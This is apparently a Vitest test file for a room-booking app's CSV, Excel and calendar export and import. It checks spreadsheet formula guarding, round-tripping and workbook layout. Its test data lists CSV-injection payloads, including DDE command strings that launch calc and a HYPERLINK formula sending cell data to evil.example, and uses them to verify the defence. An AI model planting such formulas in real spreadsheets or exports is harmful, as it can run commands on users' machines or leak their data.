import { mkdtempSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { bookingsCsvRows, writeBookingsFile } from '../../electron/files/bookingsFile.ts'
import { csvText, guardFormula, unguardFormula } from '../../electron/files/csvWriter.ts'
import { icsText, uidOf } from '../../electron/files/icsWriter.ts'
import { writeOccupancyFile } from '../../electron/files/occupancyFile.ts'
import { occupancyCsvRows } from '../../electron/files/occupancyTable.ts'
import { parseForeign } from '../../electron/files/parseForeign.ts'
import { fileNameOf, periodLabel, wordsOf } from '../../electron/files/words.ts'
import type { Booking } from '../../shared/operations/bookings.ts'
import type { OccupancyReport, OccupancyRow } from '../../shared/operations/reports.ts'
import type { Resource } from '../../shared/operations/resources.ts'

const folder = mkdtempSync(join(tmpdir(), 'files-'))
const options = { zone: 'Asia/Shanghai', year: 2026 }

/** What people have used to make a spreadsheet compute (OWASP CSV injection, reliability.md §6). */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '=1+1";=1+2',
  "%0A-3+3+cmd|' /C calc'!D2",
]
const computes = /^[=+\-@＝＋－＠\t\r\n]/

function booking(change: Partial<Booking> = {}): Booking {
  return {
    id: '0190-a',
    no: 'B26-000001',
    title: '评审会',
    status: 'confirmed',
    start: Date.UTC(2026, 10, 24, 1),
    end: Date.UTC(2026, 10, 24, 2, 30),
    resources: [{ resourceId: 'hall', quantity: 1, before: 0, after: 0 }],
    teamId: null,
    projectId: null,
    bookerId: 'p',
    occupantId: null,
    occupantName: '',
    headCount: 12,
    confidential: false,
    serviceKind: null,
    note: '',
    sourceUid: null,
    waivers: [],
    checkedInAt: null,
    checkedOutAt: null,
    releasedAt: null,
    holdUntil: null,
    reason: '',
    decidedById: null,
    createdAt: 0,
    updatedAt: Date.UTC(2026, 10, 1),
    version: 3,
    hidden: false,
    ...change,
  }
}

const hall = { id: 'hall', code: 'A102', name: '路演厅A', units: 2 } as Resource
const register = { zone: 'Asia/Shanghai', resources: new Map([['hall', hall]]), teams: new Map() }
const facts = {
  words: wordsOf('zh'),
  centreName: '亨通概念验证中心',
  demo: false,
  made: '2026-07-01',
  now: 0,
  definitions: [['预约率', '预约时长 ÷ 可预约时长']] as [string, string][],
}

describe('the formula guard', () => {
  it.each(payloads)('leaves %j nothing to compute in CSV', (payload) => {
    const text = csvText([['a', payload, 'b']])
    const [row] = parse(text, { bom: true })
    expect(row).toHaveLength(3)
    expect(row![1]).not.toMatch(computes)
    expect(row![1]!.replace(/^'/, '')).toBe(payload)
  })

  it('never lets through what computes, and changes nothing else', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(guardFormula(text)).not.toMatch(computes)
        expect(unguardFormula(guardFormula(text))).toBe(text)
      }),
    )
    expect(guardFormula('A-1 + B')).toBe('A-1 + B')
  })

  it('writes payloads into a workbook as text, never as formulas', async () => {
    const file = join(folder, 'guard.xlsx')
    const bookings = payloads.map((title, index) => booking({ id: `b${index}`, title }))
    await writeBookingsFile(file, bookings, register, { from: '2026-11-01', to: '2026-12-01' }, facts)
    const book = new ExcelJS.Workbook()
    await book.xlsx.readFile(file)
    let seen = 0
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
          if (typeof cell.value === 'string' && payloads.includes(cell.value)) seen += 1
        }),
      ),
    )
    expect(seen).toBeGreaterThanOrEqual(payloads.length)
  })
})

describe('calendars written by us', () => {
  it('are read back as they were', async () => {
    const written = [
      booking(),
      booking({ id: '0190-b', sourceUid: '31c3-1', title: 'a; b, c\\ d', note: 'one\ntwo', start: 0, end: 60_000 }),
      booking({
        id: '0190-c',
        resources: [{ resourceId: 'hall', quantity: 2, before: 0, after: 0 }],
        title: '很长的题目'.repeat(20),
      }),
    ]
    const text = icsText({
      name: '中心',
      bookings: written,
      resources: register.resources,
      teams: new Map(),
      hiddenTitle: '已预约',
    })
    for (const line of text.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75)
    const { rows, faults } = await parseForeign(new TextEncoder().encode(text), 'a.ics', options)
    expect(faults).toEqual([])
    expect(rows.map(({ uid, title, note, start, end, places }) => ({ uid, title, note, start, end, places }))).toEqual(
      written.map((each) => ({
        uid: uidOf(each),
        title: each.title,
        note: each.note,
        start: each.start,
        end: each.end,
        places: [{ name: 'A102', quantity: each.resources[0]!.quantity }],
      })),
    )
    expect(text).toContain('SEQUENCE:2')
    expect(text).toContain('DTSTART:20261124T010000Z')
  })

  it('keep any text whole', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 100 }), async (note) => {
        const text = icsText({
          name: 'x',
          bookings: [booking({ note })],
          resources: register.resources,
          teams: new Map(),
          hiddenTitle: '',
        })
        const { rows } = await parseForeign(new TextEncoder().encode(text), 'a.ics', options)
        expect(rows[0]?.note).toBe(
          note
            .replace(/\r\n?/g, '\n')
            .replace(/[^\P{Cc}\n\t]/gu, '')
            .trim(),
        )
      }),
    )
  })
})

describe('registers written by us', () => {
  it('are read back from CSV and from XLSX as they were', async () => {
    const written = [
      booking({ title: '=SUM(A1)', note: '-x' }),
      booking({ id: '2', status: 'cancelled', title: "'=x" }),
    ]
    const csv = csvText(bookingsCsvRows(written, register, facts.words))
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    const file = join(folder, 'register.xlsx')
    await writeBookingsFile(file, written, register, { from: '2026-11-01', to: '2026-12-01' }, facts)
    for (const [name, bytes] of [
      ['a.csv', new TextEncoder().encode(csv)],
      ['a.xlsx', new Uint8Array(readFileSync(file))],
    ] as const) {
      const { rows, faults } = await parseForeign(bytes, name, options)
      expect(faults).toEqual([])
      expect(rows).toMatchObject([
        {
          uid: uidOf(written[0]!),
          title: '=SUM(A1)',
          note: '-x',
          start: written[0]!.start,
          end: written[0]!.end,
          headCount: 12,
          cancelled: false,
        },
        { cancelled: true, title: "'=x" },
      ])
    }
  })
})

describe('the occupancy workbook', () => {
  const row = (change: Partial<OccupancyRow>): OccupancyRow => ({
    resourceId: 'hall',
    code: 'A102',
    name: '路演厅A',
    nameEn: 'Hall A',
    kind: 'roadshowHall',
    areaM2: 44,
    capacity: 40,
    units: 1,
    bookings: 3,
    dueCount: 3,
    noShowCount: 1,
    cancelledCount: 0,
    openMinutes: 6000,
    downMinutes: 0,
    availableMinutes: 6000,
    bookedMinutes: 1830,
    usedMinutes: 1500,
    keptMinutes: 1500,
    offHoursBookedMinutes: 0,
    offHoursUsedMinutes: 0,
    heldMinutes: 0,
    turnoverMinutes: 0,
    noShowMinutes: 60,
    seatMinutesUsed: 0,
    seatMinutesBase: 0,
    bookingRate: 0.305,
    useRate: 0.25,
    keepRate: null,
    noShowRate: 1 / 3,
    seatOccupancy: null,
    ...change,
  })
  const report: OccupancyReport = {
    from: '2026-01-01',
    to: '2026-07-01',
    zone: 'Asia/Shanghai',
    workdays: 120,
    unknownYears: [],
    rows: [row({}), row({ code: 'A103', name: '路演厅B', bookedMinutes: 60 })],
    total: row({ code: '', name: '', bookedMinutes: 1890, bookings: 6 }),
    heat: [],
    snapshot: { seq: 7, head: 'abcdef0123456789', at: 0 },
  }

  it('looks as Chinese offices expect, with figures that are figures', async () => {
    const file = join(folder, 'occupancy.xlsx')
    await writeOccupancyFile(file, report, facts)
    const book = new ExcelJS.Workbook()
    await book.xlsx.readFile(file)
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual(['报表', '明细', '口径'])
    const page = book.getWorksheet('报表')!
    expect(page.getCell('A1').value).toBe('亨通概念验证中心 2026年上半年场地使用情况表')
    expect(page.getCell('A1').font).toMatchObject({ bold: true, size: 18 })
    expect(page.getCell('B1').master.address).toBe('A1')
    expect(page.getCell('A2').value).toBe('统计区间：2026-01-01 至 2026-06-30')
    expect(page.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: 'landscape',
      fitToWidth: 1,
      printTitlesRow: '1:4',
    })
    expect(page.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 })
    const heads = page.getRow(4).values as string[]
    const booked = heads.indexOf('预约')
    expect(page.getRow(5).getCell(booked).value).toBe(30.5)
    expect(page.getRow(5).getCell(booked).numFmt).toBe('#,##0.0')
    expect(page.getRow(7).getCell(1).value).toBe('合计')
    expect(page.getRow(7).getCell(booked).value).toBe(31.5)
    expect(page.getRow(5).getCell(heads.indexOf('预约率')).value).toBe(0.305)
    const footer = (page.getRow(9).values as string[]).join(' ')
    for (const word of ['制表人', '审核人', '制表日期：2026-07-01']) expect(footer).toContain(word)
    const flat = book.getWorksheet('明细')!
    expect(flat.getRow(1).getCell(1).value).toBe('编号')
    expect(flat.rowCount).toBe(3)
    expect(flat.autoFilter).toBeTruthy()
    const titles = flat.getRow(1).values as string[]
    expect(new Set(titles).size).toBe(titles.length)
  })

  it('has the same figures as CSV', () => {
    const rows = occupancyCsvRows(report, facts.words)
    const booked = rows[0]!.indexOf('预约时长（小时）')
    expect(rows.map((each) => each[booked])).toEqual(['预约时长（小时）', 30.5, 1, 31.5])
    expect(rows.at(-1)![0]).toBe('合计')
  })

  it.each([
    ['2026-01-01', '2027-01-01', '2026年'],
    ['2026-01-01', '2026-07-01', '2026年上半年'],
    ['2026-07-01', '2027-01-01', '2026年下半年'],
    ['2026-10-01', '2027-01-01', '2026年第4季度'],
    ['2026-02-01', '2026-03-01', '2026年2月'],
    ['2026-12-01', '2027-01-01', '2026年12月'],
    ['2026-03-02', '2026-03-09', '2026-03-02至2026-03-08'],
    ['2026-03-02', '2026-03-03', '2026-03-02'],
  ])('names %s…%s %s', (from, to, label) => {
    expect(periodLabel(from, to, wordsOf('zh'))).toBe(label)
  })

  it('names its file as offices do, without what Windows forbids', () => {
    const words = wordsOf('zh')
    expect(fileNameOf(words.occupancyFile, { period: '2026年上半年', made: '2026-07-01' }, 'xlsx')).toBe(
      '2026年上半年场地使用情况表_20260701.xlsx',
    )
    expect(fileNameOf('{{period}}', { period: 'a/b:c', made: '2026-07-01' }, 'csv')).toBe('a-b-c.csv')
  })
})
